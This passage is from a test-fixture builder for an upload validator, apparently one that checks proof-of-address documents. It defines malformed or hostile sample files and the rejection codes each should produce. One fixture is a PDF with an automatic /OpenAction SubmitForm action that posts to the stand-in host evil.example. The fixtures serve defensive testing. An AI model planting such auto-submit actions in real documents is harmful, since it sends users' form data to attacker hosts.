    'pdf-submit-form-action',
    'PDF with form submission',
    'UNSUPPORTED_FORMAT',
    pdf({ catalogExtra: '/OpenAction 5 0 R', objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }),
    poa,
  );
  add('pdf-truncated', 'truncated PDF', 'FILE_CORRUPT', pdf({ eof: false }), poa);
  add(
    'html-as-proof-of-address',
    'HTML',
    'UNSUPPORTED_FORMAT',
    Buffer.from(`${html}${'<p>bill</p>'.repeat(12_000)}`),
    poa,
  );
  return files;
}
